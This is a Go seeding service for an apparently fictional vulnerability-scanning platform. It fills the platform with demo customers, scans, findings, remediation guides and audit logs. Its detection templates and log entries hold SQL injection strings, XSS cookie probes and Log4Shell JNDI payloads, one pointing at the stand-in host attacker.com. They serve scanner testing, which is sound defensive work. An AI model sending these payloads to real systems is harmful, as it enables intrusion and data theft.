// Copyright 2025 l3montree UG (haftungsbeschraenkt).
// SPDX-License-Identifier: 	AGPL-3.0-or-later
package services

import (
	"time"

	"github.com/gosimple/slug"
	"github.com/l3montree-dev/vulify/database"
	"github.com/l3montree-dev/vulify/database/models"
	"github.com/l3montree-dev/vulify/monitoring"
	"github.com/l3montree-dev/vulify/shared"
	"github.com/l3montree-dev/vulify/utils"
	"github.com/labstack/echo/v4"
)

// SampleDataService seeds demo records so that empty pages have
// something to show. Seeding is idempotent per record, slugs and batch
// inserts conflict-do-nothing on repeats.
type SampleDataService struct {
	customerRepository     shared.CustomerRepository
	customerUserRepository shared.CustomerUserRepository
	emailRepository        shared.EmailCommunicationRepository
	scanRepository         shared.ScanRepository
	scanResultRepository   shared.ScanResultRepository
	templateRepository     shared.VulnerabilityTemplateRepository
	remediationRepository  shared.VulnerabilityRemediationRepository
	auditLogRepository     shared.AuditLogRepository
	userRepository         shared.UserRepository
}

func NewSampleDataService(
	customerRepository shared.CustomerRepository,
	customerUserRepository shared.CustomerUserRepository,
	emailRepository shared.EmailCommunicationRepository,
	scanRepository shared.ScanRepository,
	scanResultRepository shared.ScanResultRepository,
	templateRepository shared.VulnerabilityTemplateRepository,
	remediationRepository shared.VulnerabilityRemediationRepository,
	auditLogRepository shared.AuditLogRepository,
	userRepository shared.UserRepository,
) *SampleDataService {
	return &SampleDataService{
		customerRepository:     customerRepository,
		customerUserRepository: customerUserRepository,
		emailRepository:        emailRepository,
		scanRepository:         scanRepository,
		scanResultRepository:   scanResultRepository,
		templateRepository:     templateRepository,
		remediationRepository:  remediationRepository,
		auditLogRepository:     auditLogRepository,
		userRepository:         userRepository,
	}
}

// SeedUsers provisions the demo admin account so that logging in works
// right after seeding.
func (s *SampleDataService) SeedUsers() ([]models.User, error) {
	admin, err := EnsureAdminUser(s.userRepository, "admin@vulify.io", "Vulify Admin")
	if err != nil {
		return nil, echo.NewHTTPError(500, "could not seed users").WithInternal(err)
	}

	monitoring.SampleDataSeeds.WithLabelValues("users").Inc()
	return []models.User{admin}, nil
}

func date(s string) *time.Time {
	t, err := time.Parse(time.DateOnly, s)
	if err != nil {
		return nil
	}
	return &t
}

func sampleCustomer(name string, plan models.CustomerPlan, contractValue, spent float64, renewal string) models.Customer {
	return models.Customer{
		CompanyName:       name,
		Slug:              slug.Make(name),
		Status:            models.CustomerStatusActive,
		Plan:              plan,
		ContractValue:     contractValue,
		AmountSpentToDate: spent,
		RenewalDate:       date(renewal),
		Licenses:          database.JSONB{},
		Tags:              []string{},
		ScanScope:         []string{},
	}
}

func (s *SampleDataService) SeedCustomers() ([]models.Customer, error) {
	acme := sampleCustomer("Acme Corp", models.PlanEnterprise, 48000, 36000, "2025-06-15")
	acme.Tags = []string{"priority", "enterprise"}
	acme.VulnerabilitiesCount = 40
	acme.CriticalVulnerabilities = 5
	acme.ResolvedVulnerabilities = 10
	acme.MainContactName = "John Smith"
	acme.MainContactEmail = "john.smith@acme-corp.example"
	acme.MainContactJobTitle = "Chief Technology Officer"
	acme.Licenses = database.JSONB{"internal_infrastructure_scan": 2, "web_app_scan": 1}

	techstart := sampleCustomer("TechStart Inc", models.PlanProfessional, 12000, 9000, "2025-03-20")
	techstart.Tags = []string{"startup"}
	techstart.VulnerabilitiesCount = 12
	techstart.ResolvedVulnerabilities = 8

	global := sampleCustomer("Global Systems", models.PlanEnterprise, 96000, 72000, "2025-08-10")
	global.Tags = []string{"enterprise"}
	global.VulnerabilitiesCount = 63
	global.CriticalVulnerabilities = 7
	global.ResolvedVulnerabilities = 41

	dataflow := sampleCustomer("DataFlow Ltd", models.PlanProfessional, 12000, 4000, "2025-02-01")
	dataflow.MissedPayment = true
	dataflow.MissedPaymentAmount = 4000
	dataflow.MissedPaymentDate = date("2024-12-15")
	dataflow.PaymentNotes = "December payment overdue. Multiple reminder emails sent. Customer cited budget approval delays."

	securenet := sampleCustomer("SecureNet", models.PlanEnterprise, 72000, 54000, "2025-12-05")

	cloudtech := sampleCustomer("CloudTech Solutions", models.PlanEssential, 8400, 2800, "2025-04-22")
	cloudtech.MissedPayment = true
	cloudtech.MissedPaymentAmount = 2100
	cloudtech.MissedPaymentDate = date("2024-11-30")
	cloudtech.PaymentNotes = "November and December payments outstanding. Payment plan being negotiated. Contact: CFO mentioned cash flow issues."

	customers := []models.Customer{acme, techstart, global, dataflow, securenet, cloudtech}
	if err := s.customerRepository.CreateBatch(nil, customers); err != nil {
		return nil, echo.NewHTTPError(500, "could not seed customers").WithInternal(err)
	}

	monitoring.SampleDataSeeds.WithLabelValues("customers").Inc()
	return customers, nil
}

// SeedScans creates demo scans spread over the first customers,
// including two deliberately long running ones, plus their findings.
func (s *SampleDataService) SeedScans() ([]models.Scan, error) {
	customers, err := s.customerRepository.ListOrdered()
	if err != nil {
		return nil, echo.NewHTTPError(500, "could not load customers").WithInternal(err)
	}
	if len(customers) == 0 {
		customers, err = s.SeedCustomers()
		if err != nil {
			return nil, err
		}
		customers, err = s.customerRepository.ListOrdered()
		if err != nil {
			return nil, echo.NewHTTPError(500, "could not load customers").WithInternal(err)
		}
	}

	pick := func(i int) models.Customer {
		if i >= len(customers) {
			return customers[len(customers)-1]
		}
		return customers[i]
	}

	now := time.Now()
	ago := func(d time.Duration) *time.Time {
		t := now.Add(-d)
		return &t
	}

	scans := []models.Scan{
		{
			CustomerID: pick(0).ID,
			ScanName:   "Production Infrastructure Scan",
			ScanType:   "Infrastructure",
			Status:     models.ScanStatusRunning,
			StartedAt:  ago(48 * time.Hour),
			Progress:   45, TargetsCount: 120, VulnerabilitiesFound: 15,
			NodeName: "scan-node-us-east-1", NodeLocation: "US-East (Virginia)", NodeIP: "54.123.45.67",
		},
		{
			CustomerID: pick(1).ID,
			ScanName:   "Web Application Security Test",
			ScanType:   "Web Application",
			Status:     models.ScanStatusRunning,
			StartedAt:  ago(2 * time.Hour),
			Progress:   78, TargetsCount: 15, VulnerabilitiesFound: 6,
			NodeName: "scan-node-eu-west-1", NodeLocation: "EU-West (Ireland)", NodeIP: "52.210.98.123",
		},
		{
			CustomerID: pick(2).ID,
			ScanName:   "Cloud Assets Audit",
			ScanType:   "Cloud",
			Status:     models.ScanStatusRunning,
			StartedAt:  ago(36 * time.Hour),
			Progress:   32, TargetsCount: 85, VulnerabilitiesFound: 12,
			NodeName: "scan-node-us-west-2", NodeLocation: "US-West (Oregon)", NodeIP: "44.234.12.89",
		},
		{
			CustomerID:  pick(0).ID,
			ScanName:    "External Perimeter Scan",
			ScanType:    "External",
			Status:      models.ScanStatusCompleted,
			StartedAt:   ago(3 * time.Hour),
			CompletedAt: ago(time.Hour),
			Progress:    100, TargetsCount: 45, VulnerabilitiesFound: 23,
			NodeName: "scan-node-us-east-1", NodeLocation: "US-East (Virginia)", NodeIP: "54.123.45.67",
		},
		{
			CustomerID: pick(1).ID,
			ScanName:   "Internal Network Assessment",
			ScanType:   "Internal",
			Status:     models.ScanStatusRunning,
			StartedAt:  ago(time.Hour),
			Progress:   22, TargetsCount: 200, VulnerabilitiesFound: 3,
			NodeName: "scan-node-ap-southeast-1", NodeLocation: "Asia Pacific (Singapore)", NodeIP: "13.229.87.45",
		},
		{
			CustomerID:  pick(2).ID,
			ScanName:    "Weekly Compliance Check",
			ScanType:    "Compliance",
			Status:      models.ScanStatusFailed,
			StartedAt:   ago(5 * 24 * time.Hour),
			CompletedAt: ago(4 * 24 * time.Hour),
			Progress:    100, TargetsCount: 50, VulnerabilitiesFound: 5,
			NodeName: "scan-node-eu-central-1", NodeLocation: "EU-Central (Frankfurt)", NodeIP: "18.192.34.56",
		},
	}

	if err := s.scanRepository.CreateBatch(nil, scans); err != nil {
		return nil, echo.NewHTTPError(500, "could not seed scans").WithInternal(err)
	}

	// reload for generated ids
	seeded, err := s.scanRepository.ListOrdered()
	if err != nil {
		return nil, echo.NewHTTPError(500, "could not load scans").WithInternal(err)
	}

	findScan := func(name string) (models.Scan, bool) {
		return utils.Find(seeded, func(scan models.Scan) bool { return scan.ScanName == name })
	}

	var results []models.ScanResult
	if infra, ok := findScan("Production Infrastructure Scan"); ok {
		results = append(results,
			models.ScanResult{
				ScanID:            infra.ID,
				VulnerabilityName: "Remote Code Execution via Deserialization",
				VulnerabilityCode: "CVE-2024-1234",
				Severity:          models.SeverityCritical,
				Target:            "10.0.1.15", Port: "8080",
				Description:    "Apache Struts vulnerable to remote code execution through unsafe deserialization of user-supplied data.",
				Recommendation: "Immediately update Apache Struts to version 2.5.33 or later. Implement input validation and sanitization. Use a Web Application Firewall (WAF) to filter malicious requests.",
				CVSSScore:      10.0,
				Status:         models.ScanResultStatusNew,
			},
			models.ScanResult{
				ScanID:            infra.ID,
				VulnerabilityName: "SMB Signing Not Required",
				VulnerabilityCode: "CWE-300",
				Severity:          models.SeverityHigh,
				Target:            "10.0.1.50", Port: "445",
				Description:    "SMB server does not require packet signing, making it vulnerable to man-in-the-middle attacks and session hijacking.",
				Recommendation: "Enable SMB signing requirement in Group Policy. Update SMB protocol to SMBv3. Disable SMBv1 if still enabled.",
				CVSSScore:      7.5,
				Status:         models.ScanResultStatusNew,
			},
			models.ScanResult{
				ScanID:            infra.ID,
				VulnerabilityName: "Exposed Redis Instance Without Authentication",
				VulnerabilityCode: "CWE-306",
				Severity:          models.SeverityCritical,
				Target:            "10.0.1.200", Port: "6379",
				Description:    "Redis database is exposed to the network without authentication, allowing unauthorized access to cached data and potential server compromise.",
				Recommendation: "Enable Redis authentication by setting 'requirepass' in redis.conf. Bind Redis to localhost if external access is not needed.",
				CVSSScore:      9.8,
				Status:         models.ScanResultStatusNew,
			},
		)
	}
	if web, ok := findScan("Web Application Security Test"); ok {
		results = append(results,
			models.ScanResult{
				ScanID:            web.ID,
				VulnerabilityName: "Server-Side Request Forgery (SSRF)",
				VulnerabilityCode: "CWE-918",
				Severity:          models.SeverityHigh,
				Target:            "webapp.example.com", Port: "443",
				Description:    "Application allows users to specify URLs that are fetched by the server, enabling SSRF attacks to access internal services.",
				Recommendation: "Implement a whitelist of allowed domains and protocols. Validate and sanitize all user-supplied URLs.",
				CVSSScore:      8.6,
				Status:         models.ScanResultStatusNew,
			},
			models.ScanResult{
				ScanID:            web.ID,
				VulnerabilityName: "XML External Entity (XXE) Injection",
				VulnerabilityCode: "CWE-611",
				Severity:          models.SeverityHigh,
				Target:            "api.example.com", Port: "443",
				Description:    "XML parser processes external entities without proper restriction, allowing file disclosure and SSRF attacks.",
				Recommendation: "Disable external entity processing in XML parsers. Use secure parser configurations and update XML processing libraries.",
				CVSSScore:      8.2,
				Status:         models.ScanResultStatusNew,
			},
		)
	}
	if cloud, ok := findScan("Cloud Assets Audit"); ok {
		results = append(results,
			models.ScanResult{
				ScanID:            cloud.ID,
				VulnerabilityName: "S3 Bucket Publicly Accessible",
				VulnerabilityCode: "CWE-732",
				Severity:          models.SeverityCritical,
				Target:            "s3://company-backups", Port: "443",
				Description:    "AWS S3 bucket is configured with public read access, exposing sensitive backup files to the internet.",
				Recommendation: "Immediately remove public access from the S3 bucket. Enable S3 Block Public Access at both bucket and account level.",
				CVSSScore:      9.1,
				Status:         models.ScanResultStatusNew,
			},
			models.ScanResult{
				ScanID:            cloud.ID,
				VulnerabilityName: "IAM User with Overly Permissive Permissions",
				VulnerabilityCode: "CWE-269",
				Severity:          models.SeverityHigh,
				Target:            "arn:aws:iam::123456789:user/dev-user", Port: "N/A",
				Description:    "IAM user has AdministratorAccess policy attached, violating the principle of least privilege.",
				Recommendation: "Replace AdministratorAccess with specific, limited permissions. Implement MFA for all IAM users and rotate access keys.",
				CVSSScore:      7.7,
				Status:         models.ScanResultStatusNew,
			},
		)
	}

	if err := s.scanResultRepository.CreateBatch(nil, results); err != nil {
		return nil, echo.NewHTTPError(500, "could not seed scan results").WithInternal(err)
	}

	monitoring.SampleDataSeeds.WithLabelValues("scans").Inc()
	return seeded, nil
}

func (s *SampleDataService) SeedAuditLogs() ([]models.AuditLog, error) {
	logs := []models.AuditLog{
		{
			EventType: models.EventTypeFailedLogin,
			Severity:  models.SeverityHigh,
			UserEmail: "admin@vulify.io",
			IPAddress: "185.220.101.45",
			Location:  "Russia",
			UserAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
			Action:    "login", Status: models.AuditLogStatusFailed,
			Description: "Failed login attempt with incorrect password",
			Metadata:    database.JSONB{"attempts": 5, "reason": "invalid_credentials"},
		},
		{
			EventType: models.EventTypeSuspiciousRequest,
			Severity:  models.SeverityCritical,
			UserEmail: "unknown",
			IPAddress: "45.142.120.89",
			Location:  "China",
			UserAgent: "python-requests/2.28.0",
			Resource:  "/api/customers", Action: "query", Status: models.AuditLogStatusBlocked,
			Description: "SQL injection attempt detected in API endpoint",
			Metadata:    database.JSONB{"attack_pattern": "' OR '1'='1"},
		},
		{
			EventType: models.EventTypeUnauthorizedAccess,
			Severity:  models.SeverityHigh,
			UserEmail: "user@customer.example",
			IPAddress: "203.0.113.42",
			Location:  "Brazil",
			UserAgent: "Mozilla/5.0 (X11; Linux x86_64)",
			Resource:  "/admin/users", Action: "access", Status: models.AuditLogStatusBlocked,
			Description: "Attempted to access admin panel without proper permissions",
			Metadata:    database.JSONB{"required_role": "admin", "user_role": "user"},
		},
		{
			EventType: models.EventTypeSuspiciousRequest,
			Severity:  models.SeverityHigh,
			UserEmail: "unknown",
			IPAddress: "91.194.226.11",
			Location:  "Ukraine",
			UserAgent: "curl/7.68.0",
			Resource:  "/api/scans", Action: "list", Status: models.AuditLogStatusBlocked,
			Description: "Multiple rapid requests from same IP - potential DDoS",
			Metadata:    database.JSONB{"requests_per_second": 150, "threshold": 50},
		},
		{
			EventType: models.EventTypeFailedLogin,
			Severity:  models.SeverityCritical,
			UserEmail: "admin@vulify.io",
			IPAddress: "198.51.100.23",
			Location:  "Romania",
			UserAgent: "Mozilla/5.0 (Windows NT 6.1; WOW64)",
			Action:    "login", Status: models.AuditLogStatusBlocked,
			Description: "Brute force attack detected - 25 failed login attempts",
			Metadata:    database.JSONB{"attempts": 25, "time_window": "5 minutes", "account_locked": true},
		},
		{
			EventType: models.EventTypeDataModification,
			Severity:  models.SeverityMedium,
			UserEmail: "sarah.admin@vulify.io",
			IPAddress: "10.0.1.50",
			Location:  "United States",
			UserAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)",
			Resource:  "/api/customers/export", Action: "export", Status: models.AuditLogStatusSuccess,
			Description: "Customer data exported to CSV",
			Metadata:    database.JSONB{"records_exported": 150, "format": "csv"},
		},
		{
			EventType: models.EventTypePermissionChange,
			Severity:  models.SeverityMedium,
			UserEmail: "sarah.admin@vulify.io",
			IPAddress: "10.0.1.25",
			Location:  "United States",
			UserAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
			Resource:  "/settings/scans", Action: "update", Status: models.AuditLogStatusSuccess,
			Description: "Scan schedule configuration updated",
			Metadata:    database.JSONB{"changed_fields": []string{"frequency", "time"}},
		},
		{
			EventType: models.EventTypeUnauthorizedAccess,
			Severity:  models.SeverityCritical,
			UserEmail: "user@customer.example",
			IPAddress: "89.248.165.32",
			Location:  "Netherlands",
			UserAgent: "Mozilla/5.0",
			Resource:  "/api/customers/abc123", Action: "read", Status: models.AuditLogStatusBlocked,
			Description: "Attempted to access other customer's data",
			Metadata:    database.JSONB{},
		},
	}

	if err := s.auditLogRepository.CreateBatch(nil, logs); err != nil {
		return nil, echo.NewHTTPError(500, "could not seed audit logs").WithInternal(err)
	}

	monitoring.SampleDataSeeds.WithLabelValues("audit-logs").Inc()
	return logs, nil
}

func (s *SampleDataService) SeedTemplates() ([]models.VulnerabilityTemplate, error) {
	templates := []models.VulnerabilityTemplate{
		{
			TemplateName:      "SQL Injection Detection - Authentication",
			VulnerabilityType: "SQL Injection",
			Severity:          models.SeverityCritical,
			DetectionMethod:   "pattern_match",
			ScanTargets:       []string{"web_application", "api"},
			Description:       "Detects SQL injection vulnerabilities in authentication endpoints by testing various SQL payloads",
			DetectionPattern:  "' OR '1'='1' -- , admin'-- , ' OR 1=1-- , '; DROP TABLE users--",
			TestPayload:       "username=admin' OR '1'='1'-- &password=anything",
			Enabled:           true,
			Tags:              []string{"OWASP Top 10", "Authentication", "Database"},
			CVEReferences:     []string{"CVE-2023-12345", "CVE-2022-98765"},
		},
		{
			TemplateName:      "Cross-Site Scripting (XSS) - Reflected",
			VulnerabilityType: "XSS",
			Severity:          models.SeverityHigh,
			DetectionMethod:   "response_analysis",
			ScanTargets:       []string{"web_application"},
			Description:       "Identifies reflected XSS vulnerabilities by injecting JavaScript payloads and analyzing responses",
			DetectionPattern:  "<script>alert(1)</script>, <img src=x onerror=alert(1)>, javascript:alert(1)",
			TestPayload:       "search=<script>alert(document.cookie)</script>",
			Enabled:           true,
			Tags:              []string{"OWASP Top 10", "Client-Side", "JavaScript"},
			CVEReferences:     []string{"CVE-2023-45678"},
		},
		{
			TemplateName:      "Apache Log4j RCE (Log4Shell)",
			VulnerabilityType: "Command Injection",
			Severity:          models.SeverityCritical,
			DetectionMethod:   "pattern_match",
			ScanTargets:       []string{"web_application", "api", "infrastructure"},
			Description:       "Detects Apache Log4j Remote Code Execution vulnerability (Log4Shell) by testing JNDI injection payloads",
			DetectionPattern:  "${jndi:ldap://{{interactsh-url}}}, ${jndi:rmi://{{interactsh-url}}}",
			TestPayload:       "User-Agent: ${jndi:ldap://attacker.com/a}",
			Enabled:           true,
			Tags:              []string{"Critical", "RCE", "Log4j", "Apache", "JNDI"},
			CVEReferences:     []string{"CVE-2021-44228", "CVE-2021-45046", "CVE-2021-45105"},
		},
		{
			TemplateName:      "Exposed Git Repository",
			VulnerabilityType: "Information Disclosure",
			Severity:          models.SeverityHigh,
			DetectionMethod:   "static_analysis",
			ScanTargets:       []string{"web_application"},
			Description:       "Detects publicly accessible .git directories that may expose source code and sensitive information",
			DetectionPattern:  "/.git/HEAD, /.git/config, /.git/index",
			TestPayload:       "GET /.git/HEAD HTTP/1.1",
			Enabled:           true,
			Tags:              []string{"Information Disclosure", "Source Code"},
			CVEReferences:     []string{},
		},
	}

	if err := s.templateRepository.CreateBatch(nil, templates); err != nil {
		return nil, echo.NewHTTPError(500, "could not seed vulnerability templates").WithInternal(err)
	}

	monitoring.SampleDataSeeds.WithLabelValues("vulnerability-templates").Inc()
	return templates, nil
}

func (s *SampleDataService) SeedRemediations() ([]models.VulnerabilityRemediation, error) {
	now := time.Now()

	remediations := []models.VulnerabilityRemediation{
		{
			VulnerabilityName: "Open Redirect Vulnerability",
			VulnerabilityCode: "ASP-Nuke-001",
			Category:          "Web Application",
			Severity:          models.SeverityHigh,
			Description:       "ASP-Nuke suffers from an open redirect vulnerability, which occurs when the application allows user-controlled input to dictate the destination of a redirect without proper validation. This can be exploited by attackers to redirect users to malicious websites.",
			Steps: []models.RemediationStep{
				{StepNumber: 1, Title: "Identify Affected Code", Description: "Review the source code to locate all instances where redirects are performed and identify parameters that accept user input for redirect URLs."},
				{StepNumber: 2, Title: "Implement URL Validation", Description: "Add validation logic to ensure that the redirect URL is from a trusted domain or whitelist and reject any that do not match."},
				{StepNumber: 3, Title: "Use Safe Redirect Methods", Description: "Replace direct redirects with a mapping system where user input selects from a predefined list of safe URLs."},
				{StepNumber: 4, Title: "Apply Input Sanitization", Description: "Sanitize all user-supplied input for redirect parameters by removing or encoding special characters that could manipulate the URL."},
				{StepNumber: 5, Title: "Test for Vulnerabilities", Description: "Conduct manual checks and automated scans with tools like OWASP ZAP to verify that open redirects are no longer possible."},
				{StepNumber: 6, Title: "Deploy and Monitor", Description: "Deploy the fixes to production and monitor logs for any attempted exploits to ensure the remediation is effective."},
			},
			ThumbsUp:     142,
			ThumbsDown:   8,
			Source:       models.RemediationSourceAIGenerated,
			LastModified: now.AddDate(0, 0, -7),
		},
		{
			VulnerabilityName: "SQL Injection in Login Form",
			VulnerabilityCode: "SQLi-2024-001",
			Category:          "Web Application",
			Severity:          models.SeverityCritical,
			Description:       "A SQL injection vulnerability exists in the login authentication mechanism, allowing attackers to bypass authentication by manipulating SQL queries through specially crafted input.",
			Steps: []models.RemediationStep{
				{StepNumber: 1, Title: "Use Parameterized Queries", Description: "Replace all dynamic SQL queries with parameterized queries or prepared statements to prevent SQL injection attacks."},
				{StepNumber: 2, Title: "Implement Input Validation", Description: "Validate and sanitize all user inputs on both client and server side, rejecting any suspicious patterns."},
				{StepNumber: 3, Title: "Apply Least Privilege", Description: "Ensure database accounts used by the application have minimal necessary permissions."},
				{StepNumber: 4, Title: "Enable Web Application Firewall", Description: "Deploy a WAF with SQL injection protection rules to add an additional layer of defense."},
			},
			ThumbsUp:     89,
			ThumbsDown:   3,
			Source:       models.RemediationSourceTeamEdited,
			LastModified: now.AddDate(0, 0, -2),
		},
	}

	for i := range remediations {
		if err := s.remediationRepository.Create(nil, &remediations[i]); err != nil {
			return nil, echo.NewHTTPError(500, "could not seed remediations").WithInternal(err)
		}
	}

	monitoring.SampleDataSeeds.WithLabelValues("vulnerability-remediations").Inc()
	return remediations, nil
}

func (s *SampleDataService) SeedCustomerUsers(customer models.Customer) ([]models.CustomerUser, error) {
	now := time.Now()
	dayAgo := now.Add(-24 * time.Hour)
	fiveDaysAgo := now.Add(-5 * 24 * time.Hour)

	mainContactName := customer.MainContactName
	if mainContactName == "" {
		mainContactName = "John Smith"
	}
	mainContactEmail := customer.MainContactEmail
	if mainContactEmail == "" {
		mainContactEmail = "john.smith@example.com"
	}

	users := []models.CustomerUser{
		{
			CustomerID:    customer.ID,
			Name:          mainContactName,
			Email:         mainContactEmail,
			Role:          "admin",
			IsMainContact: true,
			EmailVerified: true,
			LastLogin:     &now,
		},
		{
			CustomerID:    customer.ID,
			Name:          "Emily Rodriguez",
			Email:         "emily.rodriguez@example.com",
			Role:          "user",
			EmailVerified: true,
			LastLogin:     &dayAgo,
		},
		{
			CustomerID: customer.ID,
			Name:       "David Park",
			Email:      "david.park@example.com",
			Role:       "user",
			LastLogin:  &fiveDaysAgo,
		},
	}

	if err := s.customerUserRepository.CreateBatch(nil, users); err != nil {
		return nil, echo.NewHTTPError(500, "could not seed customer users").WithInternal(err)
	}

	monitoring.SampleDataSeeds.WithLabelValues("customer-users").Inc()
	return users, nil
}

func (s *SampleDataService) SeedEmails(customer models.Customer) ([]models.EmailCommunication, error) {
	now := time.Now()
	recipient := customer.MainContactEmail
	if recipient == "" {
		recipient = "contact@example.com"
	}

	emails := []models.EmailCommunication{
		{
			CustomerID:     customer.ID,
			RecipientEmail: recipient,
			Subject:        "Critical Vulnerability Detected - Immediate Action Required",
			Body:           "We have detected critical vulnerabilities in your infrastructure that require immediate attention. Please review the attached scan report and take necessary actions.",
			SentDate:       now,
			Status:         models.EmailStatusOpened,
			EmailType:      "vulnerability_alert",
		},
		{
			CustomerID:     customer.ID,
			RecipientEmail: recipient,
			Subject:        "Weekly Vulnerability Scan Report",
			Body:           "Your weekly vulnerability scan has been completed. View the full report in your dashboard.",
			SentDate:       now.Add(-2 * 24 * time.Hour),
			Status:         models.EmailStatusDelivered,
			EmailType:      "scan_report",
		},
		{
			CustomerID:     customer.ID,
			RecipientEmail: recipient,
			Subject:        "Welcome to Vulify Security Platform",
			Body:           "Thank you for choosing Vulify! Here's everything you need to get started with your vulnerability management journey.",
			SentDate:       now.Add(-5 * 24 * time.Hour),
			Status:         models.EmailStatusOpened,
			EmailType:      "onboarding",
		},
	}

	if err := s.emailRepository.CreateBatch(nil, emails); err != nil {
		return nil, echo.NewHTTPError(500, "could not seed email communications").WithInternal(err)
	}

	monitoring.SampleDataSeeds.WithLabelValues("emails").Inc()
	return emails, nil
}
